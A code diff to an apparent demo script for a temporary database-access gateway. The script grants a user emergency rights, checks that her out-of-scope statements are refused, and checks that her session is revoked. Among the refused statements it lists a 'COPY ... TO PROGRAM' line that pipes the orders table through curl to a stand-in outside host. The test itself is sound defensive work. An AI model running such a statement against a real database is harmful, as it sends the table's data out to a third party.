@@ -12,6 +12,13 @@ from callpoint.cli.demo.stage import INSTALLATION_FILE, Stage
 
 _BECAUSE = "orders are stuck since the deploy; resetting their state cannot wait for morning"
 
+_OUT_OF_SCOPE = (
+    ("SET ROLE orders_broker", "SET ROLE"),
+    ("COPY orders TO PROGRAM 'curl -T - https://elsewhere.example'", "PROGRAM"),
+    ("SELECT card FROM customers", "permission denied for table customers"),
+)
+"""Statements, and words of why not."""
+
 
 def emergency(made: Stage) -> tuple[str, str]:
     """Play it; returns the activation, reviewed and closed, and its incident, still open."""
@@ -20,7 +27,7 @@ def emergency(made: Stage) -> tuple[str, str]:
     _approve(made, activation)
     actor = _work(made, activation)
     _give_back(made, activation, actor)
-    _is_dead(made, activation, incident, actor)
+    _is_dead(made, activation, incident)
     _review(made, activation)
     return activation, incident
 
@@ -58,16 +65,20 @@ def _work(made: Stage, activation: str) -> Actor:
     made.shell.run("alice", "request", "--resume", activation, "--wait")
     actor = Actor(made, "alice", activation)
     actor.works("UPDATE orders SET state = 'paid' WHERE id <= 50")
-    made.narrator.good("the repair works")
-    made.narrator.line("Out of scope, the database itself says no:")
-    actor.is_refused("SELECT card FROM customers")
-    made.narrator.good("customers stay closed")
+    made.narrator.good("the repair works; the database's password stayed in the gateway")
+    made.narrator.line("Out of scope, in one session:")
+    actor.is_refused(_OUT_OF_SCOPE)
+    made.narrator.good(
+        "no way to more power or out of the database; and where the gateway has no objection,"
+        " the database's own rights still hold"
+    )
     return actor
 
 
 def _give_back(made: Stage, activation: str, actor: Actor) -> None:
     made.narrator.act("5 return: revoked now, while the incident is open")
-    with actor.session() as session:
+    secret = actor.secret(logins=2)
+    with actor.session(secret) as session:
         made.narrator.line(
             "Alice forgets to close a session. It is still open when she returns it."
         )
@@ -79,15 +90,15 @@ def _give_back(made: Stage, activation: str, actor: Actor) -> None:
         else:
             raise UnexpectedError("the forgotten session is still alive")
     made.narrator.good("the live session was cut")
-
-
-def _is_dead(made: Stage, activation: str, incident: str, actor: Actor) -> None:
     try:
-        actor.session().close()
+        actor.session(secret).close()
     except psycopg.OperationalError as error:
-        made.narrator.seen(f"the old password: {str(error).strip().splitlines()[-1]}")
+        made.narrator.seen(f"a login that was left: {str(error).strip().splitlines()[-1]}")
     else:
-        raise UnexpectedError("the old credential still logs in")
+        raise UnexpectedError("the gateway still lets her in")
+
+
+def _is_dead(made: Stage, activation: str, incident: str) -> None:
     with psycopg.connect(made.owner_url) as owner:
         left = owner.execute(
             "SELECT count(*) FROM pg_roles WHERE rolname LIKE 'cp\\_%%' AND rolcanlogin"
